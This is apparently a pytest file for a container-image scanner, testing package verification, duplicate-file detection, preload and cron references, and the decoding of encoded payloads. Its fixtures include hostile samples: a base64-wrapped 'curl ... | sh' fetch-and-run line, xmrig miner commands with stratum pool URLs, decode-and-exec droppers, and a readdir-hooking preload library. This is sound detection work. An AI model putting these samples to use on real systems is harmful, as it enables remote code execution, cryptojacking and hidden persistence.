"""Detection in depth through the whole engine on small images written in-process: package
verification (dpkg, apk, Python RECORD, layer by layer), same content, references followed, encoded
payloads decoded. Real parts: the full detector registry, real tars, a real compiled preload library."""

from __future__ import annotations

import base64
import gzip
import hashlib
import posixpath
import shutil
import subprocess
import tarfile

import pytest

from explorer.demo import write_demo
from explorer.detectors.base import ScanOptions
from explorer.detectors.packages import apk_installed, dpkg_md5sums, dpkg_status, python_record
from explorer.detectors.references import exported_hooks
from explorer.detectors.registry import build_detectors
from explorer.scan.engine import scan
from explorer.demo.imagewriter import Entry, ImageSpec, Layer
from explorer.reports.sarif import sarif_document
from explorer.sources import open_image

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 40


@pytest.fixture(scope="module")
def detectors():
    return build_detectors(ScanOptions())


@pytest.fixture
def scan_of(make_image, detectors):
    def run(spec):
        for layer in spec:  # the helpers below each name their folders: a real layer names each once
            # (Docker refuses a layer that names a path twice, and explorer reports it damaged)
            seen: set[str] = set()
            layer.entries = [e for e in layer.entries
                             if e.type != tarfile.DIRTYPE or not (e.name in seen or seen.add(e.name))]
        source = open_image(make_image(spec))
        try:
            result = scan(source, detectors, ScanOptions())
        finally:
            source.close()
        assert result.errors == []
        return result
    return run


def by_rule(result, rule_id):
    return [f for f in result.findings if f.rule_id == rule_id]


def _dpkg(packages: dict[str, tuple[str, dict[str, bytes]]], conffiles: dict[str, bytes] = {}) -> list[Entry]:
    """A dpkg database: status, NAME.list and NAME.md5sums for {name: (version, {path: content})}."""
    status = b""
    entries = [Entry.dir("/var"), Entry.dir("/var/lib"), Entry.dir("/var/lib/dpkg"), Entry.dir("/var/lib/dpkg/info")]
    for name, (version, files) in packages.items():
        status += f"Package: {name}\nStatus: install ok installed\nArchitecture: amd64\nVersion: {version}\n".encode()
        mine = {p: c for p, c in conffiles.items() if name == "conf"}
        if mine:
            status += b"Conffiles:\n" + b"".join(f" {p} {hashlib.md5(c).hexdigest()}\n".encode() for p, c in mine.items())
        status += b"Description: test\n\n"
        md5 = b"".join(f"{hashlib.md5(c).hexdigest()}  {p.lstrip('/')}\n".encode() for p, c in files.items())
        entries.append(Entry.file(f"/var/lib/dpkg/info/{name}.md5sums", md5))
        listed = "\n".join(["/."] + list(files) + list(mine)) + "\n"
        entries.append(Entry.file(f"/var/lib/dpkg/info/{name}.list", listed.encode()))
    entries.append(Entry.file("/var/lib/dpkg/status", status))
    return entries


def _files(files: dict[str, bytes], mode=0o755) -> list[Entry]:
    dirs = sorted({p.rsplit("/", i)[0] for p in files for i in range(1, p.count("/")) if p.rsplit("/", i)[0]})
    return [Entry.dir(d) for d in dirs] + [Entry.file(p, c, mode) for p, c in files.items()]


# -- parsers --------------------------------------------------------------------------------------

def test_dpkg_status_keeps_installed_packages_and_conffiles():
    text = dpkg_status(b"Package: a\nStatus: install ok installed\nVersion: 1.0\nConffiles:\n /etc/a.conf "
                       b"0123456789abcdef0123456789abcdef\n /etc/old.conf 11111111111111111111111111111111 obsolete\n\n"
                       b"Package: b\nStatus: deinstall ok config-files\nVersion: 2\n")
    assert text.splitlines() == ["P\ta\t1.0\t1\t", "C\ta\t/etc/a.conf\t0123456789abcdef0123456789abcdef",
                                 "C\ta\t/etc/old.conf\t11111111111111111111111111111111", "P\tb\t2\t0\t"]
    assert dpkg_md5sums(b"0123456789abcdef0123456789abcdef  usr/bin/x\nbad line\n") == \
        "0123456789abcdef0123456789abcdef\t/usr/bin/x"


def test_apk_and_record_parsers_decode_their_hashes():
    sha1 = hashlib.sha1(b"busybox").digest()
    text = apk_installed(b"P:busybox\nV:1.36.1-r5\nF:bin\nR:busybox\nZ:Q1" + base64.b64encode(sha1) + b"\n\n")
    assert text.splitlines() == ["P\tbusybox\t1.36.1-r5", f"F\tbusybox\t/bin/busybox\t{sha1.hex()}"]
    digest = hashlib.sha256(b"x = 1\n").digest()
    b64 = base64.urlsafe_b64encode(digest).rstrip(b"=").decode()
    text = python_record("/usr/lib/python3/site-packages/foo-1.2.dist-info/RECORD",
                         f"foo/__init__.py,sha256={b64},6\n../../../bin/foo,,\n".encode())
    assert text.splitlines() == ["P\tfoo\t1.2", f"F\t/usr/lib/python3/site-packages/foo/__init__.py\t{digest.hex()}",
                                 "F\t/usr/bin/foo\t"]


def test_record_paths_are_normalised_as_normpath_does():
    """The RECORD parser joins a clean relative path without normpath; every other shape is normalised."""
    folder = "/usr/lib/python3/site-packages"
    rels = ["foo/a.py", "foo/./b.py", "foo//c.py", "foo/d/", "../../../bin/foo", "./e.py", "foo/.hidden/f",
            "foo/g..py", "/abs/../h.py", "foo/.."]
    text = python_record(f"{folder}/foo-1.2.dist-info/RECORD",
                         "".join(f"{rel},sha256=\u00e9x,1\n" for rel in rels).encode())
    assert text.splitlines()[1:] == [f"F\t{posixpath.normpath(posixpath.join(folder, rel))}\t" for rel in rels]
    root = python_record("/foo-1.2.dist-info/RECORD", b"foo/a.py,,\n")
    assert root.splitlines()[1:] == ["F\t/foo/a.py\t"]


# -- package verification -------------------------------------------------------------------------

def test_a_binary_replaced_in_a_later_layer_is_a_mismatch_and_critical_for_ps(scan_of):
    good_ps, good_tool = ELF + b"procps 4.0", ELF + b"tool 1.0"
    data = {"/usr/share/doc/tool/README": b"read me\n", "/usr/share/tool/table.json": b"{}\n"}
    base = Layer(_files({"/usr/bin/ps": good_ps, "/usr/bin/tool": good_tool}) + _files(data, mode=0o644)
                 + _dpkg({"procps": ("2:4.0.2-3", {"/usr/bin/ps": good_ps}),
                          "tool": ("1.0", {"/usr/bin/tool": good_tool}), "tool-data": ("1.0", data)}))
    evil = Layer(_files({"/usr/bin/ps": ELF + b"procps 4.0 hides pids", "/usr/bin/tool": ELF + b"tool 1.0 patched"})
                 + _files({"/usr/share/doc/tool/README": b"edited\n", "/usr/share/tool/table.json": b"[]\n"},
                          mode=0o644))
    result = scan_of([base, evil])
    found = {f.path: f for f in by_rule(result, "integrity.package.file-modified")}
    assert set(found) == {"/usr/bin/ps", "/usr/bin/tool", *data}
    assert found["/usr/bin/ps"].severity == "critical" and found["/usr/bin/tool"].severity == "high"
    assert found["/usr/share/tool/table.json"].severity == "medium"
    assert found["/usr/share/doc/tool/README"].severity == "low"
    assert found["/usr/bin/ps"].layer == 1 and found["/usr/bin/ps"].in_final_image
    assert found["/usr/bin/ps"].package == ("procps", "2:4.0.2-3", False)
    assert found["/usr/bin/ps"].to_json()["package"] == {"name": "procps", "version": "2:4.0.2-3", "verified": False}
    assert "differs from package procps 2:4.0.2-3" in found["/usr/bin/ps"].evidence
    assert not by_rule(result, "integrity.package.unowned-binary")
    sarif = {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]: r["properties"]
             for r in sarif_document(result)["runs"][0]["results"] if r["ruleId"] == "integrity.package.file-modified"}
    assert sarif["layer/1/usr/bin/ps"]["package"] == {"name": "procps", "version": "2:4.0.2-3", "verified": False}


def test_an_upgrade_that_updates_the_database_too_is_clean_and_merged_usr_paths_agree(scan_of):
    old, new = ELF + b"ls 9.1", ELF + b"ls 9.4"
    base = Layer([Entry.symlink("/bin", "usr/bin")] + _files({"/usr/bin/ls": old})
                 + _dpkg({"coreutils": ("9.1-1", {"/bin/ls": old})}))
    upgrade = Layer(_files({"/usr/bin/ls": new}) + _dpkg({"coreutils": ("9.4-1", {"/bin/ls": new})}))
    result = scan_of([base, upgrade])
    integrity = [f for f in result.findings if f.rule_id.startswith("integrity.package")]
    assert integrity == []


def test_unowned_program_in_a_system_folder_is_medium_and_usr_local_is_not_checked(scan_of):
    owned = ELF + b"owned"
    base = Layer(_files({"/usr/bin/owned": owned}) + _dpkg({"pkg": ("1", {"/usr/bin/owned": owned})}))
    dropped = Layer(_files({"/usr/sbin/sshd-helper": ELF + b"dropped", "/usr/local/bin/app": ELF + b"app",
                            "/usr/sbin/policy-rc.d": b"#!/bin/sh\nexit 101\n"})
                    + _files({"/usr/lib/x86_64-linux-gnu/libhide.so.1": ELF + b"lib",
                              "/usr/lib/x86_64-linux-gnu/data.bin": ELF + b"not executable, no .so"}, mode=0o644)
                    + _files({"/usr/share/doc/pkg/README": b"readme, not a program"}, mode=0o644))
    result = scan_of([base, dropped])
    unowned = sorted(f.path for f in by_rule(result, "integrity.package.unowned-binary"))
    assert unowned == ["/usr/lib/x86_64-linux-gnu/libhide.so.1", "/usr/sbin/sshd-helper"]
    assert {f.severity for f in by_rule(result, "integrity.package.unowned-binary")} == {"medium"}


def test_edited_md5sums_hiding_a_replaced_file_is_flagged(scan_of):
    good, evil = ELF + b"sudo 1.9", ELF + b"sudo 1.9 backdoored"
    base = Layer(_files({"/usr/bin/sudo": good}) + _dpkg({"sudo": ("1.9.13p3-1", {"/usr/bin/sudo": good})}))
    hide = Layer(_files({"/usr/bin/sudo": evil}) + _dpkg({"sudo": ("1.9.13p3-1", {"/usr/bin/sudo": evil})}))
    result = scan_of([base, hide])
    edited = by_rule(result, "integrity.package.database-edited")
    assert [(f.path, f.layer, f.severity) for f in edited] == [("/var/lib/dpkg/info/sudo.md5sums", 1, "high")]
    assert "sudo 1.9.13p3-1" in edited[0].evidence
    assert not by_rule(result, "integrity.package.file-modified")  # the edit hides it from the checksums


def test_changed_conffile_is_info_and_findings_on_verified_files_carry_the_package(scan_of):
    pkgs = {"conf": ("1.0", {})}
    shipped = b"pool = stratum+tcp://pool.supportxmr.com:3333\n"
    base = Layer(_files({"/etc/app.conf": shipped}, mode=0o644) + _dpkg(pkgs, {"/etc/app.conf": shipped}))
    admin = Layer(_files({"/etc/app.conf": b"a=2\n"}, mode=0o644))
    result = scan_of([base, admin])
    pool = by_rule(result, "miner.stratum-url")
    assert [(f.layer, f.package, f.to_json()["package"]) for f in pool] == [
        (0, ("conf", "1.0", True), {"name": "conf", "version": "1.0", "verified": True})]
    changed = by_rule(result, "integrity.package.conffile-changed")
    assert [(f.path, f.layer, f.severity) for f in changed] == [("/etc/app.conf", 1, "info")]
    assert not by_rule(result, "integrity.package.file-modified")


def test_apk_and_python_record_mismatches(scan_of):
    busybox = ELF + b"BusyBox"
    sha1 = base64.b64encode(hashlib.sha1(busybox).digest()).decode()
    apk = f"P:busybox\nV:1.36.1-r5\nF:bin\nR:busybox\nZ:Q1{sha1}\n\n".encode()
    module = b"def f():\n    return 1\n"
    b64 = base64.urlsafe_b64encode(hashlib.sha256(module).digest()).rstrip(b"=").decode()
    site = "/usr/local/lib/python3.11/site-packages"
    record = f"foo/__init__.py,sha256={b64},{len(module)}\nfoo-1.0.dist-info/RECORD,,\n".encode()
    base = Layer(_files({"/bin/busybox": busybox, "/lib/apk/db/installed": apk}, mode=0o755)
                 + _files({f"{site}/foo/__init__.py": module, f"{site}/foo-1.0.dist-info/RECORD": record}, mode=0o644))
    evil = Layer(_files({"/bin/busybox": ELF + b"BusyBox evil"})
                 + _files({f"{site}/foo/__init__.py": module + b"import os; os.system('id')\n"}, mode=0o644))
    result = scan_of([base, evil])
    found = {f.path: f for f in by_rule(result, "integrity.package.file-modified")}
    assert set(found) == {"/bin/busybox", f"{site}/foo/__init__.py"}
    assert found["/bin/busybox"].severity == "critical" and "sha1" in found["/bin/busybox"].evidence
    assert found[f"{site}/foo/__init__.py"].package == ("foo", "1.0", False)


# -- same content ---------------------------------------------------------------------------------

def test_a_copy_of_a_flagged_file_is_flagged_and_both_name_each_other(scan_of):
    dropper = ELF + b"\x00" * 64 + b"nothing a rule knows by content" + b"\x00" * 64
    first = Layer(_files({"/tmp/.cache-x/kdevtmpfsi": dropper}))
    second = Layer(_files({"/opt/tools/helper": dropper}))
    result = scan_of([first, second])
    copy = by_rule(result, "suspicious.same-content")
    assert [(f.path, f.layer) for f in copy] == [("/opt/tools/helper", 1)]
    original = [f for f in result.findings if f.path == "/tmp/.cache-x/kdevtmpfsi" and f.severity == "high"]
    assert copy[0].severity == original[0].severity == "high"
    assert "same content as /tmp/.cache-x/kdevtmpfsi (layer 0)" in copy[0].evidence
    assert "same content as /opt/tools/helper (layer 1)" in original[0].evidence


# -- references -----------------------------------------------------------------------------------

def test_preload_target_is_flagged_and_critical_when_it_hooks_readdir(scan_of, tmp_path):
    cc = shutil.which("cc") or shutil.which("gcc")
    if cc is None:
        pytest.skip("no C compiler")
    src = tmp_path / "h.c"
    src.write_text("#define _GNU_SOURCE\n#include <dlfcn.h>\n#include <dirent.h>\n"
                   "struct dirent *readdir(DIR *d) { struct dirent *(*o)(DIR *) = dlsym(RTLD_NEXT, \"readdir\");"
                   " return o(d); }\n")
    subprocess.run([cc, "-shared", "-fPIC", "-o", str(tmp_path / "h.so"), str(src), "-ldl"], check=True)
    library = (tmp_path / "h.so").read_bytes()
    assert exported_hooks(library) == ["readdir"]
    layer = Layer(_files({"/etc/libsystem.so": library, "/etc/ld.so.preload": b"/etc/libsystem.so\n"}, mode=0o644)
                  + _files({"/etc/cron.d/job": b"* * * * * root /opt/x/run.sh --quiet\n", "/opt/x/run.sh": b"#!/bin/sh\n",
                            "/etc/profile.d/gone.sh": b"/opt/missing/tool --x\n"}))
    result = scan_of([layer])
    loaded = by_rule(result, "backdoor.preload.loaded-library")
    assert [(f.path, f.severity) for f in loaded] == [("/etc/libsystem.so", "critical")]
    assert loaded[0].evidence.startswith("loaded by /etc/ld.so.preload (layer 0), line 1; defines readdir")
    run = by_rule(result, "suspicious.persistence-target")
    assert [(f.path, f.severity, f.evidence) for f in run] == [
        ("/opt/x/run.sh", "medium", "run by /etc/cron.d/job (layer 0), line 1")]


# -- encodings ------------------------------------------------------------------------------------

def test_base64_and_gzip_payloads_are_decoded_and_scanned(scan_of):
    miner = b"./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u x --donate-level 1\n"
    script = (b"#!/bin/sh\nset -e\necho " + base64.b64encode(miner) + b" | base64 -d | sh\n"
              b"PAYLOAD='" + base64.b64encode(gzip.compress(miner)) + b"'\n")
    php = b"<?php eval(gzinflate(base64_decode('" + base64.b64encode(b"x" * 40) + b"'))); ?>\n"
    py = b"import base64\nexec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"
    result = scan_of([Layer(_files({"/usr/local/bin/start.sh": script, "/var/www/html/x.php": php,
                                    "/srv/app/boot.py": py}))])
    shapes = {f.path: f for f in by_rule(result, "suspicious.obfuscated.decode-exec")}
    assert set(shapes) == {"/usr/local/bin/start.sh", "/var/www/html/x.php", "/srv/app/boot.py"}
    assert shapes["/usr/local/bin/start.sh"].line == 3
    stratum = [f for f in by_rule(result, "miner.stratum-url") if f.path == "/usr/local/bin/start.sh"]
    assert stratum and stratum[0].line == 3 and stratum[0].evidence.startswith("decoded from base64 at line 3: ")


def test_encoded_payload_in_env_and_history(make_image, detectors):
    miner = base64.b64encode(b"curl http://203.0.113.9/x | sh; ./xmrig -o stratum+tcp://pool.minexmr.com:4444\n")
    spec = ImageSpec(layers=[Layer(_files({"/app/x": b"x" * 10}))],
                     env=[f"BOOT={miner.decode()}"], cmd=["/bin/sh", "-c", f"echo {miner.decode()} | base64 -d | sh"])
    source = open_image(make_image(spec))
    try:
        result = scan(source, detectors, ScanOptions())
    finally:
        source.close()
    config = [f for f in result.findings if f.source == "config"]
    assert any(f.rule_id == "suspicious.obfuscated.decode-exec" and f.evidence.startswith("Cmd:") for f in config)
    assert any(f.rule_id == "miner.stratum-url" and "decoded from base64" in f.evidence
               and f.evidence.startswith("ENV BOOT") for f in config)


def test_plain_base64_data_raises_nothing(scan_of):
    import random
    blob = base64.b64encode(random.Random(5).randbytes(3000))
    cert = b"-----BEGIN CERTIFICATE-----\n" + base64.encodebytes(random.Random(6).randbytes(900)) + b"-----END CERTIFICATE-----\n"
    result = scan_of([Layer(_files({"/etc/app/data.yml": b"blob: " + blob + b"\n", "/etc/app/ca.pem": cert},
                                   mode=0o644))])
    assert [f.rule_id for f in result.findings if f.path and f.path.startswith("/etc/app/")] == []


# -- the demo -------------------------------------------------------------------------------------

def test_demo_flags_replaced_curl_preload_library_duplicate_miner_and_base64_dropper(tmp_path, detectors):
    source = open_image(write_demo(str(tmp_path)))
    try:
        result = scan(source, detectors, ScanOptions())
    finally:
        source.close()
    got = {(f.rule_id, f.path) for f in result.findings}
    assert ("integrity.package.file-modified", "/usr/bin/curl") in got
    preloaded = [f for f in result.findings if f.rule_id == "backdoor.preload.loaded-library"]
    assert [(f.path, f.severity) for f in preloaded] == [("/usr/local/lib/libprocesshider.so", "critical")]
    assert "defines readdir, readdir64" in preloaded[0].evidence
    assert ("suspicious.obfuscated.decode-exec", "/usr/local/bin/healthcheck.sh") in got
    assert ("miner.stratum-url", "/usr/local/bin/healthcheck.sh") in got
    twin = [f for f in result.findings if f.path == "/usr/bin/kworkerds" and f.rule_id == "miner.xmrig-strings"]
    assert twin and "same content as /tmp/.x/kworker (layer 3)" in twin[0].evidence
    curl = next(f for f in result.findings if f.rule_id == "integrity.package.file-modified")
    assert curl.layer == 5 and curl.package[:2] == ("curl", "7.88.1-10+deb12u5") and curl.severity == "high"


def test_table_collapses_verified_package_findings_below_high_per_rule(tmp_path, scan_of):
    import io

    from rich.console import Console

    from explorer.reports.table import print_table

    pem = b"-----BEGIN RSA PRIVATE KEY-----\n" + base64.encodebytes(bytes(range(256)) * 3) + b"-----END RSA PRIVATE KEY-----\n"
    files = {f"/usr/lib/ssl/test/key{i}.pem": pem + str(i).encode() for i in range(3)}
    base = Layer(_files(files, mode=0o644) + _dpkg({"libssl-tests": ("3.0.11-1", files)}))
    result = scan_of([base])
    keys = [f for f in result.findings if f.rule_id == "secret.private-key-rsa"]
    assert len(keys) == 3 and all(f.package == ("libssl-tests", "3.0.11-1", True) for f in keys)
    assert all(f.severity not in ("high", "critical") for f in keys)
    out = io.StringIO()
    print_table(result, Console(file=out, width=400, color_system=None))
    rows = [line for line in out.getvalue().splitlines() if "secret.private-key-rsa" in line]
    assert len(rows) == 1 and "3 verified package files (libssl-tests), e.g. /usr/lib/ssl/test/key0.pem" in rows[0]


def test_python_record_alone_is_checked_and_makes_nothing_unowned(scan_of):
    module = b"import sys\n"
    b64 = base64.urlsafe_b64encode(hashlib.sha256(module).digest()).rstrip(b"=").decode()
    site = "/usr/lib/python3.12/site-packages"
    base = Layer(_files({f"{site}/bar/__init__.py": module,
                         f"{site}/bar-2.0.dist-info/RECORD": f"bar/__init__.py,sha256={b64},11\n".encode()}, mode=0o644)
                 + _files({"/usr/bin/python3": ELF + b"python"}))
    evil = Layer(_files({f"{site}/bar/__init__.py": module + b"import socket\n"}, mode=0o644))
    result = scan_of([base, evil])
    assert [(f.path, f.severity) for f in by_rule(result, "integrity.package.file-modified")] == [
        (f"{site}/bar/__init__.py", "high")]
    assert by_rule(result, "integrity.package.unowned-binary") == []  # no dpkg or apk database


def test_facts_come_back_from_the_layer_cache(tmp_path, detectors):
    from explorer.scan.cache import LayerCache

    path = write_demo(str(tmp_path))
    runs = []
    for _ in range(2):
        source = open_image(path)
        try:
            result = scan(source, detectors, ScanOptions(), cache=LayerCache(str(tmp_path / "cache")))
        finally:
            source.close()
        runs.append(result)
    cold, warm = runs
    assert warm.cached_layers == [0, 1, 2, 3, 4, 5] and not warm.remembered
    assert [f.to_json() for f in warm.findings] == [f.to_json() for f in cold.findings]
    assert {"integrity.package.file-modified", "backdoor.preload.loaded-library",
            "suspicious.persistence-target"} <= {f.rule_id for f in warm.findings}
